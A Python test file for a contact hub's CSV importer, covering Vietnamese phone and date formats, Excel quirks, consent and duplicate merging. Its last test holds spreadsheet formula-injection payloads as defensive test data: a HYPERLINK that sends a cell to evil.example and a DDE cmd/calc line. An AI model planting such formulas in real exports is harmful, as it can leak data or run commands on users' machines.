"""CSV import: phones to E.164, duplicates merged by identity, every rejected
row reported with its line and reason (and nothing of it written)."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from hub.campaigns.csv_text import decode
from hub.campaigns.importer import (
    ContactImporter,
    column_map,
    default_field,
    read_row,
    rejects_csv,
)
from hub.errors import InvalidRequest
from hub.inbox.model import Consent, Contact, Identity
from hub.inbox.sqlite import SqliteStore
from tests.hub_process import hub_command

DATA = Path(__file__).parent.parent / "data" / "campaigns" / "contacts.csv"
NOW = datetime(2026, 3, 10, 3, 0, tzinfo=UTC)
FIELDS_BY_NAME = {"phone": "phone", "birthday": "birthday"}


async def test_rows_are_normalised_merged_and_every_rejection_named(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        existing = Contact(
            name="Old",
            identities=[Identity(channel="email", address="old@example.com")],
            tags=["loyal"],
            created_at=NOW,
            updated_at=NOW,
        )
        await store.add_contact(existing)
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        seen: list[int] = []
        with DATA.open(encoding="utf-8-sig", newline="") as handle:
            report = await importer.import_csv(
                handle,
                mapping={"City": "attributes.city"},
                extra_tags=["spring-import"],
                progress=seen.append,
            )
        assert (report.created, report.merged) == (2, 2) and sum(seen) == report.rows == 9
        assert [(r.line, r.reason.split(":")[0]) for r in report.rejected] == [
            (5, "no phone and no e-mail"),
            (6, "phone"),
            (7, "email"),
            (8, "timezone"),
            (9, "more cells than the header has columns"),
        ]
        binh_id = (
            await store.contacts_by_identity([Identity(channel="phone", address="+84901234567")])
        )[Identity(channel="phone", address="+84901234567")]
        binh = await store.get_contact(binh_id)
        assert binh is not None and binh.name == "Nguyễn Văn Bình"
        assert [i.address for i in binh.identities] == ["+84901234567", "binh@example.com"]
        assert binh.tags == ["vip", "hanoi", "spring-import", "new"]
        assert binh.attributes == {"city": "Hà Nội"}
        old = await store.get_contact(existing.id)
        assert old is not None and old.tags == ["loyal", "imported", "spring-import"]
        assert old.name == "Old"  # a merge fills in, never overwrites
        taken = await store.contacts_by_identity(
            [Identity(channel="phone", address="+84903111222")]
        )
        assert taken == {}  # the rejected row wrote nothing
    finally:
        await store.close()


def test_a_header_without_phone_or_email_is_refused_up_front() -> None:
    with pytest.raises(InvalidRequest, match="phone or email"):
        column_map(["name", "city"], None)
    with pytest.raises(InvalidRequest, match="no column 'Mobile'"):
        column_map(["name", "phone"], {"Mobile": "phone"})
    with pytest.raises(InvalidRequest, match="fields are"):
        column_map(["name", "phone"], {"name": "nickname"})


def test_hub_import_reports_and_writes_the_rejected_rows(tmp_path: Path) -> None:
    config = tmp_path / "hub.toml"
    config.write_text('log_format = "text"\n', encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = hub_command(
        "import", str(DATA), "--map", "City=attributes.city", "--rejects", str(rejects),
        config=config, data_dir=tmp_path / "data", check=False,
    )  # fmt: skip
    assert result.returncode == 1, result.stderr
    assert "9 rows: 3 created, 1 merged, 5 rejected" in result.stdout
    assert "line 6: phone: '12345' is not a" in result.stderr
    lines = rejects.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("line,reason,Họ tên") and len(lines) == 6


async def test_consent_columns_record_yes_and_no_and_an_opt_out_on_file_stands(
    tmp_path: Path,
) -> None:
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        said_no = Contact(
            name="Đã từ chối",
            identities=[Identity(channel="phone", address="+84901000001")],
            consent={"sms": Consent(status="opted_out", at=NOW, how="STOP")},
            created_at=NOW,
            updated_at=NOW,
        )
        await store.add_contact(said_no)
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        text = (
            "name,phone,email,sms ok,mail ok\n"
            "Đã từ chối,0901000001,,có,\n"  # a yes in the file does not undo a STOP
            "Mới,0901000002,moi@example.com,yes,không\n"
            "Sai,0901000003,,maybe,\n"
        )
        report = await importer.import_csv(
            io.StringIO(text), mapping={"sms ok": "consent.sms", "mail ok": "consent.email"}
        )
        assert (report.created, report.merged) == (1, 1)
        assert [(r.line, r.reason) for r in report.rejected] == [
            (4, "consent.sms: 'maybe' is not yes or no")
        ]
        kept = await store.get_contact(said_no.id)
        assert kept is not None and kept.consent["sms"].how == "STOP"
        owners = await store.contacts_by_identity(
            [Identity(channel="phone", address="+84901000002")]
        )
        new = await store.get_contact(next(iter(owners.values())))
        assert new is not None
        assert {k: c.status for k, c in new.consent.items()} == {
            "sms": "opted_in",
            "email": "opted_out",
        }
        assert new.consent["sms"].how == "contact import"
    finally:
        await store.close()


async def _contact(store: SqliteStore, phone: str) -> Contact:
    identity = Identity(channel="phone", address=phone)
    owners = await store.contacts_by_identity([identity])
    found = await store.get_contact(owners[identity])
    assert found is not None
    return found


async def test_an_excel_file_from_a_vietnamese_windows_imports_as_the_marketer_sees_it(
    tmp_path: Path,
) -> None:
    """Windows-1258 with combining tone marks, ";" between cells, headers typed
    by hand, phones and birthdays Excel took for numbers, empty rows of
    separators: every usable row is imported, the one with lost digits says so."""
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        decoded = decode((DATA.parent / "excel-vietnamese-windows.csv").read_bytes())
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        report = await importer.import_csv(io.StringIO(decoded.text, newline=""))
        assert (decoded.encoding, report.delimiter) == ("Windows-1258", ";")
        assert (report.created, report.merged, report.blank) == (3, 0, 2)
        assert [(r.line, r.reason.split(" (")[0]) for r in report.rejected] == [
            (5, "phone: '9,01234567E+08' is in scientific notation, which has lost the"
                " number's digits"),
        ]  # fmt: skip
        binh = await _contact(store, "+84901234567")  # "901234567": Excel dropped the 0
        assert binh.name == "Nguyễn Văn Bình" and binh.birthday == date(1990, 4, 3)
        assert [i.address for i in binh.identities] == ["+84901234567", "binh@example.com"]
        hoa = await _contact(store, "+84912345678")  # "84912345678,0"
        assert hoa.name == "Trần Thị Hoà" and hoa.birthday == date(1985, 2, 1)
        huong = await _contact(store, "+84903111222")
        assert huong.birthday == date(1990, 1, 1)  # Excel serial date 32874
        assert [c.name for c in await store.search_contacts("nguyen van binh", limit=5)] == [
            "Nguyễn Văn Bình"
        ]
    finally:
        await store.close()


async def test_names_are_stored_in_nfc_whatever_the_source(tmp_path: Path) -> None:
    """A Mac writes "Nguyễn" decomposed: stored as is, it would be a second
    spelling of the same name for equality and for MongoDB's search pattern."""
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        text = (DATA.parent / "macos-numbers.csv").read_text(encoding="utf-8")
        assert not unicodedata.is_normalized("NFC", text)  # fed as is, not decoded
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        report = await importer.import_csv(io.StringIO(text, newline=""))
        assert (report.created, report.rejected) == (2, [])
        assert (await _contact(store, "+84901234567")).name == "Nguyễn Văn Bình"
        assert (await _contact(store, "+84901000333")).name == "Đặng Thị Ánh"
    finally:
        await store.close()


@pytest.mark.parametrize(
    ("phone", "e164"),
    [
        ("901234567", "+84901234567"),  # Excel dropped the leading 0
        ("84901234567.0", "+84901234567"),
        ("84901234567,0", "+84901234567"),  # the same with Vietnamese decimal comma
        ("0901234567", "+84901234567"),
        ("(+84) 90 123 4567", "+84901234567"),
        ("+84 90 123 45 67", "+84901234567"),
        ("090.123.4567", "+84901234567"),
        ("090-123-4567", "+84901234567"),
    ],
)
def test_phones_as_excel_and_people_write_them(phone: str, e164: str) -> None:
    row = read_row({"phone": phone}, {"phone": "phone"}, "VN")
    assert [i.address for i in row.identities] == [e164]


@pytest.mark.parametrize("phone", ["9.01234567E+08", "9,01235E+08", "8.49012E+10", "9E8"])
def test_a_phone_in_scientific_notation_is_refused_never_guessed(phone: str) -> None:
    with pytest.raises(InvalidRequest, match="scientific notation, which has lost"):
        read_row({"phone": phone}, {"phone": "phone"}, "VN")


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("03/04/1990", date(1990, 4, 3)),  # day first, as in Vietnam
        ("3/4/1990", date(1990, 4, 3)),
        ("03-04-1990", date(1990, 4, 3)),
        ("03.04.1990", date(1990, 4, 3)),
        ("1990-04-03", date(1990, 4, 3)),
        ("32874", date(1990, 1, 1)),  # an Excel serial date (1900 date system)
        ("45000", date(2023, 3, 15)),
    ],
)
def test_birthdays_as_vietnamese_and_excel_write_them(text: str, day: date) -> None:
    row = read_row({"phone": "0901234567", "birthday": text}, FIELDS_BY_NAME, "VN")
    assert row.birthday == day


@pytest.mark.parametrize("text", ["1990", "31/02/1990", "04/31/1990", "3 tháng 4"])
def test_a_birthday_that_is_not_a_date_is_refused(text: str) -> None:
    with pytest.raises(InvalidRequest, match=r"birthday: .* is not a date"):
        read_row({"phone": "0901234567", "birthday": text}, FIELDS_BY_NAME, "VN")


@pytest.mark.parametrize(
    ("column", "target"),
    [
        ("Họ và tên", "name"),
        ("Họ tên", "name"),
        ("Tên khách hàng", "name"),
        ("  HỌ   VÀ TÊN : ", "name"),
        ("SĐT", "phone"),
        ("Số ĐT", "phone"),
        ("sđt:", "phone"),
        ("Điện thoại", "phone"),
        ("Di động", "phone"),
        ("Số điện thoại", "phone"),
        ("\ufeffEmail", "email"),
        ("E-mail", "email"),
        ("E-MAIL:", "email"),
        ("Ngày sinh", "birthday"),
        ("Ngày sinh (dd/mm/yyyy)", ""),  # unknown: ignored unless mapped
        (unicodedata.normalize("NFD", "Điện thoại"), "phone"),
        ("attributes.city", "attributes.city"),
        ("Ghi chú", ""),
    ],
)
def test_headers_as_people_type_them(column: str, target: str) -> None:
    assert default_field(column) == target


async def test_rows_of_empty_cells_are_skipped_and_counted_not_rejected(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        text = "name,phone,\nAn,0901234567,\n\n,,\n , ,,,\nBa,0901234568,,,\n"
        report = await importer.import_csv(io.StringIO(text, newline=""))
        assert (report.created, report.blank, report.rejected) == (2, 2, [])
        # the blank line is not even a row for csv; ",," and " , ,,," are
        report = await importer.import_csv(io.StringIO("name,phone\nAn,0901234569,x\n"))
        assert [r.reason for r in report.rejected] == ["more cells than the header has columns"]
    finally:
        await store.close()


def test_hub_import_reads_an_excel_file_and_says_how(tmp_path: Path) -> None:
    config = tmp_path / "hub.toml"
    config.write_text('log_format = "text"\n', encoding="utf-8")
    result = hub_command(
        "import", str(DATA.parent / "excel-vietnamese-windows.csv"),
        config=config, data_dir=tmp_path / "data", check=False,
    )  # fmt: skip
    assert result.returncode == 1, result.stderr  # the scientific-notation row
    assert "read as Windows-1258, cells separated by ';'" in result.stderr
    assert "4 rows: 3 created, 0 merged, 1 rejected (2 blank rows skipped)" in result.stdout
    assert "line 5: phone: '9,01234567E+08' is in scientific notation" in result.stderr


async def test_rejected_rows_come_back_as_text_a_spreadsheet_never_runs(tmp_path: Path) -> None:
    # The file came from elsewhere (a web form's export); the marketer opens the
    # rejected rows in Excel to fix them: a formula there would run.
    store = SqliteStore(tmp_path / "hub.db")
    await store.open()
    try:
        importer = ContactImporter(store, lambda: NOW, default_region="VN")
        upload = io.StringIO()
        csv.writer(upload).writerows(
            [
                ["name", "phone", "email"],
                ['=HYPERLINK("http://evil.example/?"&B2,"Xem")', "not-a-phone", ""],
                ["@SUM(1+1)*cmd|' /C calc'!A0", "", ""],
                ["-2+3", "+84 90 123", ""],
            ]
        )
        report = await importer.import_csv(io.StringIO(upload.getvalue()))
        assert len(report.rejected) == 3
        rows = list(csv.reader(io.StringIO(rejects_csv(report))))
        assert [row[2] for row in rows[1:]] == [
            '\'=HYPERLINK("http://evil.example/?"&B2,"Xem")',
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'-2+3",
        ]
        assert rows[3][3] == "'+84 90 123"
    finally:
        await store.close()
